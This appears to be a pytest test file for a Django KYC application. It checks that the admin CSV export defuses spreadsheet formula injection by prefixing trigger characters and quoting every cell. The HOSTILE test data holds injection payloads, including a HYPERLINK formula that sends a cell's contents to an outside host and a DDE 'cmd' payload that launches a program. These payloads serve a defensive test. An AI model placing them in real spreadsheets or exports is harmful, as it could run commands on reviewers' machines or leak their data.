"""The CSV export cannot carry a formula into a reviewer's spreadsheet: every cell that a spreadsheet would
evaluate (OWASP's triggers = + - @ tab CR, after leading blanks or quotes too) starts with ``'``, in every
column, and the values come back intact otherwise through a real ``csv.reader`` round trip."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.test import Client
from django.urls import reverse

from django_kyc.models import Applicant
from tests.support.factories import create_user

pytestmark = pytest.mark.django_db

HOSTILE = {
    "external_id": "=1+1",
    "nationality": "=1",
    "country": "+1",
    "first_name": '=HYPERLINK("https://x/?"&A1,"x")',
    "middle_name": "+SUM(A1:A9)",
    "last_name": "-2+3",
    "email": "@SUM(1)",
    "phone": "\t=1+1",
    "address_line": "\r=1+1",
    "city": "  \"=cmd|' /C calc'!A0",
    "postal_code": "\uff1d1+1",  # a full-width equals sign
}


def export(with_pii: bool, applicants: list[Applicant]) -> str:
    perms = ["django_kyc.view_applicant", "django_kyc.export_applicant"]
    user = create_user("exporter", *perms, *(["django_kyc.view_applicant_pii"] if with_pii else []), staff=True)
    client = Client()
    client.force_login(user)
    response = client.post(
        reverse("admin:django_kyc_applicant_changelist"),
        {"action": "export_applicants", ACTION_CHECKBOX_NAME: [str(a.pk) for a in applicants]},
    )
    assert response["Content-Type"].startswith("text/csv")
    return str(response.content.decode())


@pytest.mark.parametrize("with_pii", [True, False], ids=["pii", "no-pii"])
def test_cells_a_spreadsheet_would_evaluate_are_neutralised_in_every_column(
    make_applicant: Any, with_pii: bool
) -> None:
    hostile = Applicant.objects.create(**HOSTILE)
    plain = make_applicant(last_name="O'Brien-Smith", external_id="crm-7", phone="")
    text = export(with_pii, [hostile, plain])
    rows = {row["reference"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}
    exported = rows[hostile.reference]
    columns = [name for name in HOSTILE if name in exported]
    assert ("first_name" in columns) is with_pii
    assert {"external_id", "nationality", "country"} <= set(columns)
    for name in columns:
        assert exported[name] == "'" + HOSTILE[name], name
    # harmless values are left alone (a quote or dash inside a value is not a trigger)
    assert rows[plain.reference]["external_id"] == "crm-7"
    if with_pii:
        assert (rows[plain.reference]["last_name"], rows[plain.reference]["phone"]) == ("O'Brien-Smith", "")
    # and, as OWASP also recommends, every cell is quoted (a separator inside a value cannot start a new cell)
    header = text.split("\r\n", 1)[0].split(",")
    assert all(cell.startswith('"') and cell.endswith('"') for cell in header)
    assert all(record.startswith('"') for record in text.split("\r\n") if record)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        ("Smith", "Smith"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        (" @x", "' @x"),
        ("'=1", "''=1"),
        ("a=1", "a=1"),
        (3, "3"),
    ],
)
def test_csv_cell(value: Any, cell: str) -> None:
    from django_kyc.admin.export import csv_cell

    assert csv_cell(value) == cell
